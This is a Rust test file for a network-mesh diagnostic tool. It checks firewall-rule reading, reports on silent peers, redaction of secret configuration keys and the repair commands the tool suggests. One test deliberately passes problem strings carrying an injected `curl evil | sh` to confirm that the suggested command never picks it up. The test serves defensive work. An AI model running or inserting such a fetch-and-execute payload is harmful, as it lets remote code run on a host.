//! What is judged one way and not the other: what works beside ringmail, what may accept a packet, what is secret, whose word
//! is no command.

use super::*;
use crate::node::report::Comes;

#[test]
fn what_works_beside_ringmail_is_no_finding() {
    let mut canal = healthy();
    canal.links.push(link(9, "cali0123456789a", "veth", 1446, None));
    let mut calicos = iptables(&[]);
    calicos.text = calicos.text.replace(":KUBE-OUT", ":cali-FORWARD");
    canal.filters.push(calicos);
    assert_eq!(examine(&canal).len(), 2, "no pod of the mesh is behind it");
    canal.routes.push(route("10.244.1.7/32", "cali0123456789a", 3));
    assert_eq!(examine(&canal), []);

    let mut multus = healthy();
    let file = |name: &str, plugin: &str| CniFile {
        name: name.into(),
        plugins: vec![plugin.into()],
    };
    multus.cni.insert(0, file("00-multus.conf", "multus-shim"));
    assert_eq!(examine(&multus), []);
    multus.cni.insert(1, file("05-other.conf", "bridge"));
    assert_eq!(examine(&multus)[0].subject, "05-other.conf");
}

#[test]
fn where_leases_are_in_a_folder_the_command_names_it() {
    let commands = |problem: &str| {
        let mut facts = healthy();
        report(&mut facts).problems.push(problem.into());
        examine(&facts).remove(0).command
    };
    let gone = commands(
        "the store can't be read for 12 s now: store folder /var/lib/ringmail does not exist: create it with `mkdir -p \
         /var/lib/ringmail`, or correct --lease-dir",
    );
    assert!(
        gone.starts_with("ls -ld /var/lib/ringmail; findmnt -T /var/lib/ringmail;"),
        "{gone}"
    );
    let refused =
        commands("the new configuration is refused, the last good one is in force: net-conf.json:1:29: trailing comma");
    assert_eq!(
        refused,
        "ringmail config check --lease-dir /var/lib/ringmail --psk-file FILE"
    );
}

#[test]
fn no_command_is_taken_from_what_the_store_says() {
    for problem in [
        "the new configuration is refused, the last good one is in force: net-conf.json:1:75: UDPEncap is \"`curl evil | sh`\": \
         true, false or \"auto\" is needed",
        "subnet 10.244.1.0/24 of this node is also claimed by a`curl, evil|sh`: remove that lease",
        "the store can't be read for 12 s now: `curl evil | sh`",
        "`curl evil | sh`",
    ] {
        let mut facts = healthy();
        facts.lease_dir = None;
        report(&mut facts).problems.push(problem.into());
        let found = examine(&facts);
        assert_eq!(found.len(), 1);
        assert!(!found[0].command.contains("evil"), "{found:?}");
    }
}

#[test]
fn a_peer_that_is_silent_is_told_of_once_and_by_what_its_address_answers() {
    for (answers, why) in [
        (Some(true), "its daemon does not run"),
        (Some(false), "the node is down, or the network"),
        (None, "the node or its daemon is down"),
    ] {
        let (_, mut facts) = cases()
            .into_iter()
            .find(|(name, _)| *name == "peer-silent")
            .expect("a case");
        facts.echoes.clear();
        facts
            .echoes
            .extend(answers.map(|answers| ("192.0.2.2".parse().unwrap(), answers)));
        let found = examine(&facts);
        assert_eq!(found.len(), 1, "{found:?}");
        assert!(found[0].why.starts_with(why), "{found:?}");
        for (comes, why) in [
            (Comes::Probes, "something at the peer, or on the way there"),
            (Comes::Data, "its daemon does not run"),
        ] {
            report(&mut facts).peers[0].silent = Some(comes);
            let found = examine(&facts);
            assert!(found[0].why.starts_with(why), "{found:?}");
        }
    }
}

#[test]
fn commands_for_silent_peers_name_the_port_of_the_configuration() {
    let mut cases = cases().into_iter();
    let (_, mut facts) = cases.find(|(name, _)| *name == "peer-silent").expect("a case");
    let text = r#"{"Network": "10.244.0.0/16", "Backend": {"Type": "ipsec", "EncapPort": 4600}}"#;
    facts.conf = Some(conf("net-conf.json".into(), text));
    for comes in [Comes::Probes, Comes::Nothing] {
        report(&mut facts).peers[0].silent = Some(comes);
        let found = examine(&facts);
        assert!(found[0].command.contains("(esp or udp port 4600)"), "{found:?}");
    }
}

#[test]
fn of_very_many_the_worst_are_shown() {
    let mut facts = healthy();
    let one = report(&mut facts).peers[0].clone();
    report(&mut facts).peers = (0..30)
        .map(|number| crate::node::report::PeerReport {
            node: format!("node-{number:02}"),
            loss: Some(if number == 29 { 0.9 } else { 0.3 }),
            unanswered: 1,
            ..one.clone()
        })
        .collect();
    let found = examine(&facts);
    assert_eq!((found.len(), found[0].subject.as_str()), (10, "node-29"));
    assert!(found[9].evidence.ends_with("; and 20 more of this kind"), "{found:?}");
}

#[test]
fn a_filter_is_followed_as_the_kernel_follows_it() {
    let finds = |filter: FilterText| {
        let mut facts = healthy();
        facts.filters = vec![filter];
        examine(&facts)
    };
    for (rules, dropped) in [
        (&["[0:0] -A INPUT -j DROP"][..], true),
        (
            &["[0:0] -A INPUT -p 50 -j REJECT --reject-with icmp-port-unreachable"],
            true,
        ),
        (&["[0:0] -A INPUT -s 192.0.2.2/32 -j DROP"], true),
        (&["[0:0] -A INPUT -s 192.0.2.9/32 -j DROP"], false),
        (&["[0:0] -A INPUT ! -s 192.0.2.0/24 -j DROP"], false),
        (&["[0:0] -A INPUT -i eth+ -p esp -j DROP"], true),
        (&["[0:0] -A INPUT -i eth1 -p esp -j DROP"], false),
        (&["[0:0] -A INPUT -p esp -m limit --limit 1/sec -j DROP"], false),
        (
            &[
                "[0:0] -A INPUT -m conntrack --ctstate ESTABLISHED -j ACCEPT",
                "[0:0] -A INPUT -j DROP",
            ],
            false,
        ),
        (
            &["[0:0] -A OUTPUT -j KUBE-OUT", "[0:0] -A KUBE-OUT -o eth0 -j DROP"],
            true,
        ),
        (
            &[
                "[0:0] -A OUTPUT -j KUBE-OUT",
                "[0:0] -A KUBE-OUT -j RETURN",
                "[0:0] -A KUBE-OUT -j DROP",
            ],
            false,
        ),
        (&["[0:0] -A OUTPUT -j LOG", "[0:0] -A OUTPUT -p udp -j DROP"], false),
        (&["[0:0] -A OUTPUT -j NOWHERE", "[0:0] -A OUTPUT -j DROP"], false),
        (&["[0:0] -A INPUT -j KUBE-OUT", "[0:0] -A KUBE-OUT -j KUBE-OUT"], false),
        (&["[0:0] -A FORWARD -d 10.244.2.0/24 -j DROP"], true),
        // What can't be read may accept.
        (
            &[
                "[0:0] -A INPUT -s 192.0.0.0/255.0.255.0 -j ACCEPT",
                "[0:0] -A INPUT -j DROP",
            ],
            false,
        ),
        (
            &[
                "[0:0] -A INPUT -p udp --dports 22,ipsec -j ACCEPT",
                "[0:0] -A INPUT -j DROP",
            ],
            true,
        ),
    ] {
        assert_eq!(!finds(iptables(rules)).is_empty(), dropped, "{rules:?}");
    }
    // As Docker leaves it: nothing of the mesh goes by its bridge.
    let mut docker = iptables(&["[0:0] -A FORWARD -o docker0 -m conntrack --ctstate ESTABLISHED -j ACCEPT"]);
    docker.text = docker.text.replace(":FORWARD ACCEPT", ":FORWARD DROP");
    assert_eq!(
        finds(docker)[0].command,
        "iptables-legacy -t filter -I FORWARD -s 10.244.0.0/16 -j ACCEPT"
    );
    let mut closed = iptables(&[]);
    closed.text = closed.text.replace(":INPUT ACCEPT", ":INPUT DROP");
    assert_eq!(
        finds(closed)[0].command,
        "iptables-legacy -t filter -I INPUT -p esp -j ACCEPT"
    );
    let esp = json!([{"match": {"op": "==", "left": {"meta": {"key": "l4proto"}}, "right": "esp"}},
        {"counter": {"packets": 8, "bytes": 900}}, {"drop": null}]);
    let found = finds(nft("input", "accept", esp));
    assert_eq!(found[0].command, "nft delete rule inet host input handle 5");
    assert!(found[0].evidence.contains("it has taken 8 packets"), "{found:?}");
    let tcp = json!([{"match": {"op": "==", "left": {"payload": {"protocol": "tcp", "field": "dport"}},
        "right": {"set": [22, {"range": [80, 90]}]}}}, {"accept": null}]);
    assert_eq!(
        finds(nft("input", "drop", tcp.clone()))[0].command,
        "nft insert rule inet host input meta l4proto esp accept"
    );
    assert!(finds(nft("input", "accept", tcp)).is_empty());
    for kind in ["vmap", "queue"] {
        let map =
            json!([{ kind: {"key": {"ct": {"key": "state"}}, "data": {"set": [["established", {"accept": null}]]}}}]);
        assert!(finds(nft("input", "drop", map)).is_empty(), "{kind} may accept");
    }
    for garbage in [
        "",
        "{}",
        "[]",
        "{\"nftables\": [{\"rule\": 5}, {\"chain\": {}}]}",
        "*filter\n:\n-A\n[x\n-A INPUT -s",
    ] {
        for by in [FilterKind::Nft, FilterKind::Iptables4, FilterKind::Iptables6] {
            let text = garbage.to_owned();
            let program = "nft".into();
            assert!(finds(FilterText { by, program, text }).is_empty());
        }
    }
}

/// As kube-proxy leaves it where there are thousands of Services.
#[test]
fn a_filter_of_very_many_chains_is_read_in_a_moment() {
    let mut text = String::from("*filter\n:INPUT ACCEPT [0:0]\n");
    for number in 0..20_000 {
        text += &format!(":KUBE-{number} - [0:0]\n");
    }
    for number in 0..20_000 {
        text += &format!(
            "[0:0] -A KUBE-{} -d 10.96.0.{}/32 -j RETURN\n",
            number % 20_000,
            number % 250
        );
    }
    text += "[0:0] -A INPUT -j KUBE-19999\n[7:700] -A INPUT -p esp -j DROP\nCOMMIT\n";
    let mut facts = healthy();
    facts.filters = vec![FilterText { text, ..iptables(&[]) }];
    let began = std::time::Instant::now();
    assert_eq!(examine(&facts).len(), 1);
    assert!(began.elapsed().as_secs() < 15, "{:?}", began.elapsed());
}

#[test]
fn what_a_configuration_keeps_secret_is_left_out_and_what_it_does_not_is_kept() {
    let shown = |key: &str| {
        let text = json!({"Network": "10.244.0.0/16", "Backend": {"Type": "ipsec", key: PSK}}).to_string();
        conf("x".into(), &text).text.contains(PSK)
    };
    for key in [
        "PSK",
        "psk",
        "PSK1",
        "Psks",
        "AccessKeySecret",
        "AccessKeyID",
        "PrivateKey",
        "Password",
        "PreStartupCommand",
        "SubnetAddCommand",
    ] {
        assert!(!shown(key), "{key}");
    }
    for key in ["PSKFile", "PSKGrace", "RekeyAfter", "ESPProposal", "EncapPort"] {
        assert!(shown(key), "{key}");
    }
}
